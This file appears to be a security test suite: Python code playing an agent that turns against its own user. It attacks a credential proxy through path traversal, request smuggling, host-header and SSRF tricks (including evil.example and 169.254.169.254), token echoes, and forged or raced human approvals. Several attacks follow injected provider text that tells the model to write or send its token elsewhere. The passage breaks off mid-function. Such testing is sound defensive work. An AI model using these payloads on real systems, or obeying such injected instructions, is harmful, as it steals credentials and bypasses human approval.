"""An agent that turned against the person whose accounts it uses.

The program tries each attack of the section "By an agent with a shell" of `docs/spec/attacks.md`. It has what an agent
has: a token (`AGENT_TOKEN`), a door (`AGENT_DOOR`, or the path of the socket in `AGENT_SOCKET`) and a shell. It also
has what an attacker may know: names, paths, ids and addresses, in the file of JSON that `AGENT_KNOWS` names.

For each attack, the program prints one line of JSON: the number, the name, the outcome, a short detail, and whether the
control succeeded. The control is the same without the trick of the attack. The outcome is one of these:

- `refused`: something refused the attack.
- `unreachable`: the attack did not find what it is about.
- `no effect`: nothing refused the attack, and nothing came of it.
- `GOT SECRET`: the agent got a credential, or something else that is private.
- `WROTE`: the agent changed something that nobody let it change.

All that the program receives or reads is written to the file that `AGENT_LOOT` names, in which a test searches for
secrets. Arguments select attacks by their numbers.
"""

import base64
import binascii
import concurrent.futures
import contextlib
import ctypes
import errno
import glob
import gzip
import io
import json
import os
import pathlib
import re
import shutil
import signal
import socket
import sqlite3
import stat
import struct
import subprocess
import sys
import tempfile
import threading
import time
import urllib.parse
import zlib

REFUSED, UNREACHABLE, NOTHING = "refused", "unreachable", "no effect"
SECRET, WROTE = "GOT SECRET", "WROTE"

# The time for which the agent waits for bytes, in seconds.
PATIENCE = 20
# The request that the person of the test approves once, with a number of an issue, and its body.
APPROVED = "/repos/acme/site/issues/{}/lock"
APPROVED_BODY = b'{"lock_reason":"resolved"}'
JSON = ("Content-Type", "application/json")

KNOWS = json.loads(pathlib.Path(os.environ["AGENT_KNOWS"]).read_text())
TOKEN = os.environ["AGENT_TOKEN"]
LOOT = open(os.environ["AGENT_LOOT"], "ab", buffering=0)
OWN = pathlib.Path(tempfile.mkdtemp(prefix="agent-"))
CONNECTION = KNOWS["connection"]
SHAPE = re.compile(KNOWS["shape"].encode())


# What the agent takes.

def forms(data):
    """Returns the data, and what it says when it is unpacked or decoded in the usual ways."""
    yield data
    yield data[::-1]
    if b"%" in data:
        yield urllib.parse.unquote_to_bytes(data)
    if b"\\u" in data:
        yield urllib.parse.unquote_to_bytes(data.replace(b"\\u00", b"%"))
    for at in (found.start() for found in re.finditer(rb"\x1f\x8b\x08", data)):
        with contextlib.suppress(OSError, EOFError, zlib.error):
            yield gzip.GzipFile(fileobj=io.BytesIO(data[at:])).read()
    for run in re.findall(rb"[0-9A-Fa-f]{32,}", data):
        yield binascii.unhexlify(run[:len(run) // 2 * 2])
    for run in re.findall(rb"[A-Za-z0-9+/_-]{32,}", data):
        for offset in range(4):
            part = run[offset:].translate(bytes.maketrans(b"-_", b"+/"))
            yield base64.b64decode(part[:len(part) // 4 * 4])


class Loot:
    """What the agent has received, and whether the credential was in it since the last attack began."""

    lock = threading.Lock()
    has_secret = False


def take(label, data):
    """Keeps data that the agent received or read, and returns it."""
    with Loot.lock:
        LOOT.write(b"\n--- " + label.encode("utf-8", "replace") + b"\n" + data + b"\n")
        for form in forms(data[:1 << 20]):
            if form is not data:
                LOOT.write(form + b"\n")
            Loot.has_secret |= SHAPE.search(form) is not None
    return data


# Addresses.

def parsed(address):
    return urllib.parse.urlsplit(address)


def opened(where, timeout=PATIENCE):
    """Connects to the door, to the server, to the provider, or to a host and a port."""
    if where == "door" and not os.environ.get("AGENT_DOOR"):
        connection = socket.socket(socket.AF_UNIX)
        connection.settimeout(timeout)
        connection.connect(os.environ["AGENT_SOCKET"])
        return connection
    if isinstance(where, str):
        url = parsed(os.environ["AGENT_DOOR"] if where == "door" else KNOWS[where])
        where = (url.hostname, url.port)
    return socket.create_connection(where, timeout=timeout)


def host_of(where):
    if where == "door" and not os.environ.get("AGENT_DOOR"):
        return "localhost"
    if isinstance(where, str):
        return parsed(os.environ["AGENT_DOOR"] if where == "door" else KNOWS[where]).netloc
    return f"{where[0]}:{where[1]}"


class Answer:
    """The answer to a request. Without one, the status is 0, and `error` says why."""

    def __init__(self, data=b"", error=None):
        self.data, self.error = data, error
        head, _, self.body = data.partition(b"\r\n\r\n")
        while re.match(rb"HTTP/1\.1 1\d\d", head) and not head.startswith(b"HTTP/1.1 101"):
            head, _, self.body = self.body.partition(b"\r\n\r\n")
        words = head.split(b" ", 2)
        self.status = int(words[1]) if len(words) > 1 and words[1].isdigit() else 0
        lines = head.split(b"\r\n")[1:]
        pairs = (line.decode("latin-1").partition(": ") for line in lines)
        self.headers = {name.lower(): value for name, _, value in pairs}
        if self.headers.get("transfer-encoding") == "chunked":
            self.body = joined(self.body)

    def json(self):
        """The object in the body; empty if there is none."""
        with contextlib.suppress(ValueError):
            value = json.loads(self.body)
            return value if isinstance(value, dict) else {}
        return {}

    @property
    def is_ok(self):
        return 200 <= self.status < 300

    @property
    def code(self):
        """The code of a refusal."""
        return self.json().get("code")

    def __str__(self):
        return self.error or f"{self.status} {self.code or ''}".strip()


def joined(body):
    """Returns the content of a body that came in chunks."""
    whole = b""
    while body:
        size, _, rest = body.partition(b"\r\n")
        size = size.partition(b";")[0]
        if not re.fullmatch(rb"[0-9A-Fa-f]+", size) or int(size, 16) == 0:
            break
        whole, body = whole + rest[:int(size, 16)], rest[int(size, 16) + 2:]
    return whole


def received(connection):
    """Returns all bytes until the other side ends the connection, or nothing comes for a while."""
    data = b""
    with contextlib.suppress(OSError):
        while piece := connection.recv(65536):
            data += piece
            if is_whole(data):
                break
    return data


def is_whole(data):
    head, separator, body = data.partition(b"\r\n\r\n")
    length = re.search(rb"(?i)\r\ncontent-length: (\d+)", head)
    if not separator or re.match(rb"HTTP/1\.1 1", head):
        return False
    if re.search(rb"(?i)\r\ntransfer-encoding: chunked", head):
        return body.endswith(b"0\r\n\r\n")
    return length is not None and len(body) >= int(length[1])


def send(raw, where="door", timeout=PATIENCE):
    """Sends bytes, and returns the answer."""
    try:
        with opened(where, timeout) as connection:
            with contextlib.suppress(BrokenPipeError, ConnectionResetError):
                connection.sendall(raw)
            answer = Answer(received(connection))
    except OSError as error:
        return Answer(error=f"{type(error).__name__} {error.errno or ''}".strip())
    take(f"answer of {where}", answer.data)
    if answer.body not in answer.data:
        take("its body", answer.body)
    return answer


def ask(method, path, headers=(), body=b"", token=TOKEN, where="door", host=None, timeout=PATIENCE):
    """Sends a request with the token, and returns the answer."""
    lines = [f"{method} {path} HTTP/1.1", f"Host: {host or host_of(where)}", "Connection: close"]
    lines += [f"Authorization: Bearer {token}"] if token is not None else []
    lines += [f"{name}: {value}" for name, value in headers]
    lines += [f"Content-Length: {len(body)}"] if body or method not in ("GET", "HEAD") else []
    return send("\r\n".join([*lines, "", ""]).encode() + body, where, timeout)


def use(method, path, headers=(), body=b"", connection=None, wait=0, **more):
    """Sends a request through a connection at the door. It does not wait for a person unless `wait` says so."""
    connection = CONNECTION if connection is None else connection
    headers = [("Prefer", f"wait={wait}"), *headers]
    return ask(method, f"/use/{connection}{path}", headers, body, timeout=PATIENCE + wait, **more)


def tool(name, arguments, token=None):
    """Calls a tool at the door for models."""
    call = {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": name, "arguments": arguments}}
    headers = [JSON, ("Accept", "application/json, text/event-stream"), ("MCP-Protocol-Version", "2025-06-18")]
    return ask("POST", "/mcp", headers, json.dumps(call).encode(), token=token or KNOWS["modelToken"])


def api(method, path, body=None, headers=(), token=TOKEN, **more):
    """Sends a request to the API of the server."""
    body = b"" if body is None else json.dumps(body).encode()
    return ask(method, f"/api/v1{path}", [JSON, *headers], body, token=token, where="page", **more)


# Verdicts.

def judged(answers, gain=SECRET, is_gain=lambda answer: answer.is_ok):
    """Returns the outcome of requests of which none may succeed."""
    answers = list(answers)
    gained = next((answer for answer in answers if is_gain(answer)), None)
    if gained is not None:
        return gain, f"{gained}: {gained.body[:80]!r}"
    texts = ", ".join(sorted({str(answer) for answer in answers}))
    if all(answer.status == 0 for answer in answers):
        return UNREACHABLE, texts
    return REFUSED if all(answer.status == 0 or answer.status >= 400 for answer in answers) else NOTHING, texts


def searched(answers):
    """Returns the outcome of requests that may succeed, and whose answers may not have the credential."""
    answers = list(answers)
    texts = ", ".join(sorted({str(answer) for answer in answers}))
    if all(answer.status == 0 for answer in answers):
        return UNREACHABLE, texts
    return NOTHING, texts


def tried(acts, gain=SECRET):
    """Returns the outcome of acts at the system: each returns a text if it succeeds, and otherwise fails."""
    problems = set()
    for act in acts:
        try:
            detail = act()
        except (OSError, sqlite3.Error, subprocess.SubprocessError) as error:
            number = getattr(error, "errno", None)
            problems.add(errno.errorcode.get(number, type(error).__name__))
            continue
        if detail:
            return gain, str(detail)[:120]
        problems.add("nothing")
    is_missing = problems <= {"ENOENT", "ENOTDIR", "ECONNREFUSED", "ENETUNREACH", "ESRCH", "nothing", "ENXIO", "ENODEV"}
    return UNREACHABLE if is_missing else REFUSED, ", ".join(sorted(problems))


def read(path, limit=8 << 20):
    """Returns an act that reads a file."""
    def act():
        with open(path, "rb") as file:
            return f"{len(take(f'file {path}', file.read(limit)))} bytes of {path}"
    return act


def below(*places):
    """Returns an act for each file below a directory, and for the directory itself."""
    for place in map(pathlib.Path, places):
        def listed(place=place):
            return take(f"directory {place}", "\n".join(os.listdir(place)).encode()).decode()
        if place.is_dir() if readable(place.parent) else False:
            yield listed
            for root, _, names in os.walk(place):
                yield from (read(os.path.join(root, name)) for name in names)
        yield read(place)


def readable(path):
    return os.access(path, os.R_OK | os.X_OK)


def writes(path):
    """Returns an act that opens a file for writing and writes nothing, because an attack that succeeds is shown."""
    def act():
        is_there = os.path.exists(path)
        with open(path, "r+b" if is_there else "xb"):
            pass
        if not is_there:
            os.unlink(path)
        return f"{path} can be written"
    return act


def ran(arguments, environment=None, timeout=60, **more):
    """Runs a program to its end, and returns its result. What it printed is taken."""
    variables = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(OWN), **(environment or {})}
    result = subprocess.run(arguments, env=variables, stdin=subprocess.DEVNULL, capture_output=True, timeout=timeout,
                            check=False, cwd=OWN, **more)
    take(f"output of {arguments[:3]}", result.stdout + result.stderr)
    return result


def as_person(*arguments, config=None, timeout=60):
    """Runs the program with the store and the configuration of the person."""
    variables = {"CONNECTIONS_DATA_DIR": KNOWS["data"], "CONNECTIONS_CONFIG": config or KNOWS["config"]}
    return ran([KNOWS["program"], *arguments], variables, timeout)


def succeeded(*arguments, **more):
    """Returns an act that runs the program for the person."""
    def act():
        result = as_person(*arguments, **more)
        if result.returncode:
            raise PermissionError(errno.EPERM, result.stderr.decode("utf-8", "replace")[:80])
        return f"{' '.join(arguments[:3])} succeeded"
    return act


class Trap:
    """A server of the agent on this machine, which keeps what arrives."""

    def __init__(self, reply=b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}", address=None):
        self.caught, self.reply = [], reply
        self.listener = socket.create_server(address or ("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        with contextlib.suppress(OSError):
            while True:
                connection, _ = self.listener.accept()
                with connection, contextlib.suppress(OSError):
                    connection.settimeout(2)
                    self.caught.append(take("the trap", connection.recv(65536)))
                    connection.sendall(self.reply)

    def close(self):
        # A thread in `accept` keeps the socket, unless it is shut down first.
        with contextlib.suppress(OSError):
            self.listener.shutdown(socket.SHUT_RDWR)
        self.listener.close()

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.close()

    def verdict(self, otherwise):
        if self.caught:
            return SECRET, f"the trap caught {len(self.caught)} requests"
        return otherwise


# Controls.

def passes():
    """The permitted read through the door returns the data of the provider."""
    answer = use("GET", "/repos/acme/site/issues")
    return answer.status == 200 and b'"title"' in answer.body or str(answer)


def repeats():
    """The provider repeats the request, and the credential is covered."""
    answer = use("GET", "/echo/raw")
    return answer.status == 200 and b"Bearer ***" in answer.body or str(answer)


def lists():
    """The door for models lists the connection."""
    answer = tool("list_connections", {})
    return answer.status == 200 and CONNECTION.encode() in answer.body or str(answer)


def reads():
    """The agent reads a file of its own in the same way."""
    file = OWN / "own" / "file"
    file.parent.mkdir(exist_ok=True)
    file.write_bytes(b"own")
    outcome = tried(below(file.parent))
    return outcome[0] == SECRET or outcome[1]


def changes():
    """The agent writes a file of its own in the same way."""
    outcome = tried([writes(OWN / "new"), writes(OWN)], WROTE)
    return outcome[0] == WROTE or outcome[1]


def looks():
    """The agent reads its own environment in the same way."""
    outcome = tried([read("/proc/self/environ")])
    return outcome[0] == SECRET or outcome[1]


def listens():
    """A server of the agent is reached at its own address."""
    with Trap() as trap:
        answer = send(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", ("127.0.0.1", trap.port))
        return answer.status == 200 and len(trap.caught) == 1 or str(answer)


def runs():
    """The same program runs with a store of the agent."""
    own = {"CONNECTIONS_DATA_DIR": str(OWN / "store"), "CONNECTIONS_CONFIG": str(OWN / "none.toml")}
    (OWN / "none.toml").touch(mode=0o600)
    result = ran([KNOWS["program"], "list"], own)
    return result.returncode == 0 or result.stderr.decode("utf-8", "replace")


def starts():
    """A program of the system runs."""
    result = ran(["/bin/sh", "-c", "echo started"])
    return result.stdout == b"started\n" or str(result)


# Attacks.

ATTACKS = []


def attack(number, name, control):
    def add(function):
        ATTACKS.append((f"S{number:02}", name, function, control))
        return function
    return add


PATH = "/repos/acme/site"


def head_of(path):
    """Returns the beginning of a request for a path of the connection, whose head can go on."""
    return (f"GET /use/{CONNECTION}{path} HTTP/1.1\r\nHost: {host_of('door')}\r\n"
            f"Authorization: Bearer {TOKEN}\r\n").encode()


@attack(1, "sends writes that no rule allows", passes)
def writes_without_a_rule():
    requests = [("POST", "/keys"), ("PUT", "/topics"), ("PATCH", ""), ("DELETE", ""), ("LINK", ""), ("POST", "/merges")]
    return judged((use(method, PATH + path, [JSON], b"{}") for method, path in requests), WROTE)


@attack(2, "replaces the method by a header or a parameter", passes)
def replaced_methods():
    override = "X-HTTP-Method-Override"
    answers = [use("GET", PATH, [(name, "DELETE")]) for name in (override, "X-Method-Override", "X-HTTP-Method")]
    answers += [use("GET", f"{PATH}?{name}=DELETE") for name in ("_method", "_HttpMethod")]
    # The header is the continuation of another one, or is named as one that a proxy removes.
    answers += [send(head_of(PATH) + f"X-A: b\r\n {override}: DELETE\r\nConnection: close\r\n\r\n".encode())]
    answers += [send(head_of(PATH) + f"Connection: close, {override}\r\n{override}: DELETE\r\n\r\n".encode())]
    return judged(answers, WROTE, lambda answer: b'"written"' in answer.body)


@attack(3, "climbs out of the path that is allowed", passes)
def climbed_paths():
    lock = "/repos/acme/site/issues/1/lock"
    paths = [f"{lock}/../../../../keys", f"{lock}/%2e%2e/%2e%2e/keys", f"{lock}/..;/keys", f"{lock}/%252e%252e/keys",
             f"{lock}%2f..%2fkeys", f"{lock}/..%5ckeys", f"{lock}//../keys", "/repos/acme/site/issues/1/./lock"]
    return judged((use("PUT", path, [JSON], b"{}") for path in paths), WROTE)


@attack(4, "names the second account of the person by its id", passes)
def second_account_by_id():
    known = KNOWS["second"]["id"]
    spellings = [known, known.upper(), f"%{ord(known[0]):02x}{known[1:]}", known[-8:], f"{{{known}}}"]
    return judged(use("GET", "/user", connection=spelling) for spelling in spellings)


@attack(5, "names the second account by its label in several spellings", passes)
def second_account_by_label():
    kind, _, label = KNOWS["second"]["name"].partition(":")
    spellings = [f"{kind}:{label}", f"{kind}%3A{label}", f"{kind}%3a{label}", f"{kind.upper()}:{label}", label,
                 f"{kind}:{label}%00", f"{kind}:{label}@api.github.com", f"{CONNECTION},{kind}:{label}",
                 f"{kind}:{label}#{CONNECTION}"]
    return judged(use("GET", "/user", connection=spelling) for spelling in spellings)


@attack(6, "names the connection of another owner", passes)
def connection_of_another_owner():
    foreign = KNOWS["foreign"]
    answers = [use("GET", "/user", connection=foreign[name]) for name in ("id", "name")]
    answers += [use("GET", f"/user?owner={foreign['owner']}", connection=foreign["id"])]
    answers += [use("GET", "/user", [("X-Owner", foreign["owner"])], connection=foreign["id"])]
    answers += [use("GET", "/user", connection=f"{foreign['owner']}/{foreign['name']}")]
    return judged(answers)


@attack(7, "names another host behind the connection", passes)
def another_host_behind_the_connection():
    with Trap() as trap:
        hosts = [f"127.0.0.1:{trap.port}", "localhost", "169.254.169.254", "evil.example",
                 "api.github.com.evil.example", "api.github.com@evil.example", "evil.example%40api.github.com",
                 parsed(KNOWS["provider"]).netloc]
        return trap.verdict(judged(use("GET", "/user", connection=f"{CONNECTION}@{host}") for host in hosts))


@attack(8, "uses the door as a proxy", passes)
def door_as_a_proxy():
    with Trap() as trap:
        target = f"127.0.0.1:{trap.port}"
        requests = [f"GET http://{target}/ HTTP/1.1\r\nHost: {target}", f"CONNECT {target} HTTP/1.1\r\nHost: {target}",
                    f"GET http://{target}/use/{CONNECTION}/user HTTP/1.1\r\nHost: {target}",
                    f"CONNECT /use/{CONNECTION}/user HTTP/1.1\r\nHost: {target}"]
        answers = [send(f"{line}\r\nAuthorization: Bearer {TOKEN}\r\nConnection: close\r\n\r\n".encode())
                   for line in requests]
        # At the socket, a request may name any host and goes to the provider all the same.
        return trap.verdict(judged(answers, is_gain=lambda answer: answer.is_ok and b'"login"' not in answer.body))


@attack(9, "has its placeholder sent to another host by naming that host", passes)
def placeholder_to_another_host():
    with Trap() as trap:
        target = f"127.0.0.1:{trap.port}"
        names = ["X-Forwarded-Host", "X-Host", "Forwarded", "X-Original-Host", "X-Forwarded-Server"]
        headers = [(name, f"host={target}" if name == "Forwarded" else target) for name in names]
        answers = [use("GET", "/user", [header]) for header in headers] + [use("GET", "/user", host=target)]
        answers += [use("GET", "/user", host="evil.example"), use("GET", f"/user?host={target}")]
        return trap.verdict(searched(answers))


@attack(10, "alters its token", passes)
def altered_tokens():
    last = "A" if TOKEN[-1] != "A" else "B"
    tokens = [TOKEN[:-1] + last, TOKEN.upper(), TOKEN[:-1], TOKEN + "A", "", "null", "cn_" + "A" * 43, TOKEN[::-1],
              KNOWS["modelToken"], f"{TOKEN} {TOKEN}"]
    answers = [use("GET", "/user", token=token) for token in tokens] + [use("GET", "/user", token=None)]
    return judged(answers)


@attack(11, "adds a key of its own account to its token", passes)
def second_identity():
    own = KNOWS["shape"].split("[")[0] + "0" * 36
    headers = [("Authorization", f"token {own}"), ("Cookie", f"user_session={own}"), ("X-Api-Key", own),
               ("Private-Token", own), ("Proxy-Authorization", f"Bearer {own}")]
    answers = [use("GET", "/user", [header]) for header in headers]
    return judged(answers + [use("GET", f"/user?access_token={own}")], WROTE)


@attack(12, "hides a request in the body of another one", passes)
def hidden_requests():
    hidden = f"DELETE /use/{CONNECTION}{PATH} HTTP/1.1\r\nHost: x\r\n\r\n"
    bare = f"DELETE {PATH} HTTP/1.1\r\nHost: api.github.com\r\n\r\n"
    head = head_of("/repos/acme/site/issues")
    answers = []
    for inner in (hidden, bare):
        both = f"Content-Length: {len(inner) + 5}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{inner}"
        short = f"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n{len(inner):x}\r\n{inner}\r\n0\r\n\r\n"
        twice = f"Content-Length: 0\r\nContent-Length: {len(inner)}\r\n\r\n{inner}"
        odd = f"Transfer-Encoding: x\r\nContent-Length: 0\r\n\r\n{inner}"
        for rest in (both, short, twice, odd):
            answers.append(send(head + rest.encode(), timeout=3))
    line = f"/repos/acme/site/issues?a= HTTP/1.1\r\nX: y\r\n\r\n{bare}"
    answers.append(use("GET", urllib.parse.quote(line, safe="/?=:")))
    return searched(answers)


@attack(13, "upgrades the connection so that nothing is decided after it", passes)
def upgrades():
    upgrade = ("Connection", "Upgrade")
    websocket = [upgrade, ("Upgrade", "websocket"), ("Sec-WebSocket-Key", "AAAAAAAAAAAAAAAAAAAAAA=="),
                 ("Sec-WebSocket-Version", "13")]
    answers = [use("GET", "/repos/acme/site/issues", websocket), use("GET", "/user", [upgrade, ("Upgrade", "h2c")])]
    preface = send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0", timeout=3)
    return judged([*answers, preface], WROTE, lambda answer: answer.status == 101)


ROUTES = ["/connections", "/agents", "/agents/{agent}", "/tokens", "/approvals", "/uses", "/events", "/system",
          "/freezes", "/setups", "/me", "/extensions", "/profiles", "/deliveries"]


@attack(14, "asks the door for the routes of the API", passes)
def api_at_the_door():
    paths = [route.format(agent=KNOWS["agent"]) for route in ROUTES]
    answers = [ask("GET", f"/api/v1{path}") for path in paths]
    answers += [ask("GET", f"/use/..{path}") for path in ("/api/v1/connections", "/connections")]
    answers += [ask("GET", "/use/%2e%2e/api/v1/connections"), ask("GET", "//api/v1/connections")]
    answers += [ask("GET", "/api/v1/connections", host=parsed(KNOWS["page"]).netloc)]
    return judged(answers)


@attack(15, "asks the door for the page, its code and what monitors read", passes)
def page_at_the_door():
    paths = ["/", "/connections", "/agents", "/healthz", "/readyz", "/metrics", "/callback/-/proof", "/webhooks/x"]
    page = parsed(KNOWS["page"]).netloc
    answers = [ask("GET", path) for path in paths] + [ask("GET", path, host=page) for path in paths]
    answers += [ask("POST", "/api/v1/page-tokens", [JSON], b'{"code":"cn_x"}', host=page)]
    # At a port, the server also answers what needs no token: the page is a program without data.
    public = (b"<!doctype html", b"ok", b'"status"')
    return judged(answers, is_gain=lambda answer: answer.is_ok and not answer.body.lstrip().startswith(public))


@attack(16, "pretends to be the page in a browser", passes)
def pretends_to_be_a_page():
    page = KNOWS["page"]
    headers = [[("Origin", page)], [("Origin", "null")], [("Sec-Fetch-Site", "same-origin"), ("Cookie", "session=1")],
               [("Service-Worker", "script")], [("Origin", page), ("Referer", f"{page}/approvals")]]
    return judged(use("GET", "/user", more) for more in headers)


# The provider repeats the credential.

@attack(17, "reads an answer that repeats the request", repeats)
def echo_in_the_body():
    return searched([use("GET", "/echo/raw"), use("GET", "/echo/raw", [("Accept", "text/html")])])


@attack(18, "reads an answer that repeats the credential in chunks of one byte", repeats)
def echo_in_chunks():
    answers = [use("GET", "/echo/chunked")]
    slow = opened("door")
    with slow:
        slow.sendall(head_of("/echo/chunked") + b"Connection: close\r\n\r\n")
        data = b""
        while piece := slow.recv(1):
            data += piece
    answers.append(Answer(take("read byte by byte", data)))
    take("its content", answers[-1].body)
    return searched(answers)


@attack(19, "reads an answer that repeats the credential in other forms", repeats)
def echo_in_other_forms():
    return searched([use("GET", "/echo/forms")])


@attack(20, "reads an answer that repeats the credential in its headers", repeats)
def echo_in_headers():
    return searched([use("GET", "/echo/headers"), use("HEAD", "/echo/headers")])


@attack(21, "reads trailers, extensions of chunks and early hints that repeat the credential", repeats)
def echo_beside_the_body():
    return searched([use("GET", "/echo/trailers", [("TE", "trailers")]), use("GET", "/echo/early")])


@attack(22, "asks for a compressed answer, so that the credential is not found in it", repeats)
def echo_compressed():
    return searched(use("GET", "/echo/packed", [(name, "gzip, deflate")]) for name in ("Accept-Encoding", "TE"))


@attack(23, "causes errors whose texts repeat the credential", repeats)
def echo_in_errors():
    answers = [use("GET", "/echo/error"), use("GET", "/echo/error", [("Accept", "text/plain")])]
    return searched([*answers, use("GET", "/" + "a" * 60000), use("GET", "/user", [("X-Long", "b" * 60000)])])


@attack(24, "has the request traced", repeats)
def traced_requests():
    answers = [use(method, "/echo/raw", [("Max-Forwards", "0")]) for method in ("TRACE", "trace", "TRACK", "DEBUG")]
    return judged([*answers, ask("TRACE", "/"), ask("OPTIONS", "*")])


# The provider leads elsewhere.

def to(address):
    return urllib.parse.quote(address, safe="")


@attack(25, "lets the provider redirect to a server of its own", passes)
def redirect_to_a_trap():
    with Trap() as trap:
        answers = [use("GET", f"/redirect?to={to(f'http://127.0.0.1:{trap.port}/SECRET')}")]
        answers += [use("GET", f"/redirect?to={to(f'//127.0.0.1:{trap.port}/')}")]
        time.sleep(0.3)
        return trap.verdict(searched(answers))


@attack(26, "follows a redirect whose address has the credential", passes)
def redirect_with_the_credential():
    answers = [use("GET", f"/redirect?to={to(address)}")
               for address in ("https://api.github.com/SECRET?key=SECRET", "/SECRET", "http://evil.example/#SECRET")]
    for answer in list(answers):
        path = parsed(answer.headers.get("location", "")).path
        if path.startswith("/use/"):
            answers.append(ask("GET", path))
    return searched(answers)


@attack(27, "follows a redirect to a path that no rule allows", passes)
def redirect_to_a_write():
    answer = use("GET", f"/redirect?to={to('https://api.github.com/repos/acme/site/keys')}")
    path = parsed(answer.headers.get("location", "")).path or f"/use/{CONNECTION}/repos/acme/site/keys"
    return judged([ask("POST", path, [JSON], b"{}"), ask("DELETE", path)], WROTE)


@attack(28, "follows the address of a next page that leads to another host", passes)
def next_page_elsewhere():
    with Trap() as trap:
        answer = use("GET", f"/next?to={to(f'http://127.0.0.1:{trap.port}/next')}")
        address = re.search(r"<([^>]*)>", answer.headers.get("link", ""))
        address = parsed(address[1]) if address else None
        if address and address.port == trap.port:
            # The agent itself follows the address, with all that the provider wrote into it.
            ask("GET", f"{address.path}?{address.query}", token=None, where=("127.0.0.1", trap.port))
        is_covered = all(b"*" * 8 in request for request in trap.caught)
        return searched([answer]) if is_covered else trap.verdict(searched([answer]))


# The provider writes to the model.

def advice():
    """Returns what a text of the provider tells the model to do."""
    return use("GET", "/advice").json().get("steps", [])


def advises():
    """The text of the provider reaches the agent, and the permitted read returns data."""
    return len(advice()) > 3 and passes()


@attack(29, "follows a text of the provider that tells it to write", advises)
def follows_to_write():
    steps = [step for step in advice() if step["do"] == "request"]
    answers = [use(step["method"], step["path"], [JSON], b"{}") for step in steps]
    calls = [{"connection": CONNECTION, "method": step["method"], "path": step["path"]} for step in steps]
    refusals = [tool("send_request", call) for call in calls]
    refused = all(b'"isError":true' in answer.body for answer in refusals)
    return judged(answers, WROTE) if refused else (WROTE, str(refusals[0].body[:80]))


@attack(30, "follows a text of the provider that tells it to send its placeholder elsewhere", advises)
def follows_to_send_the_placeholder():
    with Trap() as trap:
        answers = []
        for step in (step for step in advice() if step["do"] == "send"):
            # The text names an address of its own, and the agent sends what it has: its placeholder.
            take("what the agent has", TOKEN.encode())
            answers.append(ask("POST", "/collect", [JSON], TOKEN.encode(), where=("127.0.0.1", trap.port)))
            answers.append(use("GET", "/user", [("Referer", f"{step['to']}?{TOKEN}")]))
        # The one who gets the placeholder reaches the door with it only where the agent does, and no provider takes it.
        answers += [ask("GET", "/user", where="provider"), ask("GET", "/user", where="provider", host="api.github.com")]
        # The first answer is that of the agent's own server.
        return judged(answers[1:])


@attack(31, "follows a text of the provider that tells it to ask for more", advises)
def follows_to_ask_for_more():
    steps = [step for step in advice() if step["do"] == "ask"]
    answers = [tool("request_access", {"need": step["need"], "why": step["why"], "kind": "github",
                                       "connection": CONNECTION}) for step in steps]
    refused = all(b'"isError":true' in answer.body for answer in answers)
    after = judged([use("DELETE", PATH), use("POST", f"{PATH}/keys", [JSON], b"{}")], WROTE)
    return after if refused else (WROTE, str(answers[0].body[:80]))


@attack(32, "follows a text of the provider that says that a person has approved", advises)
def follows_a_forged_approval():
    approval = KNOWS["approval"]["id"]
    headers = [("Connections-Approval", approval), ("Connections-Outcome", "allowed"), ("X-Approved-By", "a person")]
    answers = [use("DELETE", PATH, headers), use("PUT", APPROVED.format(7), [JSON, *headers], b"{}"),
               use("DELETE", f"{PATH}?approval={approval}", headers)]
    checked = tool("check_request", {"approval": approval})
    answers += [checked] if b'"isError":true' not in checked.body and b"answered" in checked.body else []
    return judged(answers, WROTE)


# Approvals.

class Approved:
    """The requests that a person approved. The races are the controls of the other attacks on approvals."""

    numbers = set()


def approves():
    """A person approved a request of the agent, and its answer came."""
    return bool(Approved.numbers) or "no request was approved"


def asked(number, body=APPROVED_BODY, wait=0, **more):
    return use("PUT", APPROVED.format(number), [JSON], body, wait=wait, **more)


def until_answered(number, body=APPROVED_BODY):
    """Repeats a request until a person has answered, and returns the answer."""
    end = time.monotonic() + 3 * PATIENCE
    answer = asked(number, body, wait=10)
    while answer.code == "approval_required" and time.monotonic() < end:
        answer = asked(number, body, wait=10)
    if answer.is_ok:
        Approved.numbers.add(number)
    return answer


@attack(33, "sends an approved request many times at once", approves)
def approved_many_times():
    with concurrent.futures.ThreadPoolExecutor(16) as pool:
        first = [pool.submit(asked, 1, wait=10) for _ in range(16)]
        answers = [future.result() for future in first]
    if any(answer.is_ok for answer in answers):
        Approved.numbers.add(1)
    else:
        answers.append(until_answered(1))
    # The provider counts how often it was sent.
    return searched(answers)


@attack(34, "exchanges the body or the path while a person approves", approves)
def exchanged_after_the_question():
    answers = []
    with concurrent.futures.ThreadPoolExecutor(4) as pool:
        honest = pool.submit(until_answered, 2)
        for turn in range(12):
            answers.append(asked(2, b'{"lock_reason":"spam","turn":%d}' % turn))
            answers.append(use("DELETE", APPROVED.format(2)))
            answers.append(use("PUT", APPROVED.format(2) + f"?turn={turn}", [JSON], APPROVED_BODY))
        honest.result()
        answers.append(asked(2, b'{"lock_reason":"spam"}'))
        answers.append(use("DELETE", APPROVED.format(2)))
    return judged(answers, WROTE)


@attack(35, "sends an approved request again after its answer", approves)
def approved_again():
    if not until_answered(3).is_ok:
        return NOTHING, "it was not approved"
    again = asked(3)
    approval = again.headers.get("connections-approval", "")
    answers = [again, ask("GET", f"/use/approvals/{approval}")]
    return judged(answers, WROTE, lambda answer: answer.is_ok and b'"written"' in answer.body)


@attack(36, "dresses a request up as one that was approved", approves)
def dressed_up():
    path = APPROVED.format(1)
    paths = [path + "/", path + ".json", path.upper(), path + ";a=b", path + "?", path + "?a",
             path.replace("lock", "%6cock"), path.replace("site", "site%20"), "/" + path]
    answers = [use("PUT", other, [JSON], APPROVED_BODY) for other in paths]
    media = [("Content-Type", "text/plain")], [("Content-Type", "application/json;charset=utf-16")]
    answers += [use("PUT", path, list(more), APPROVED_BODY) for more in media]
    return judged(answers, WROTE)


@attack(37, "approves its own request with its token", approves)
def approves_its_own():
    approval = asked(8).headers.get("connections-approval", "")
